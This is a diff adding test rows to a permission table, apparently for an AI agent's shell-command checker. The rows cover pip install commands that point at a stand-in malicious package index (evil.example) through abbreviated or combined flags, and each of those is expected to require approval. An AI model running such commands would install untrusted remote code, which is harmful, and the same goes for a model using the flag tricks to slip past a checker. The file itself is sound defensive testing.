@@ -182,6 +182,12 @@ const options: Row[] = [
   [["python3", "-m", "pytest", "-q"], "allow", "shell.whitelist"],
   [["python3", "-B", "main.py", "-m", "timeit", "-c", "x"], "ask", "shell.python-inline"],
   [["python3", "main.py", "--mode", "paper"], "allow", "shell.whitelist"],
+  [["pip", "install", "--ind", "evil.example/simple", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-qievil.example", "x"], "ask", "shell.pip-index"],
+  [["pip3", "install", "--trusted=evil.example", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "--no-index", "--find", "wheels", "x"], "ask", "shell.pip-index"],
+  [["pip", "install", "-q", "-r", "requirements.txt"], "allow", "shell.whitelist"],
+  [["pip", "install", "--user", "requests==2.32.3"], "allow", "shell.whitelist"],
 ];
 
 describe("wrappers are judged by what they wrap; strictest wins", () => {
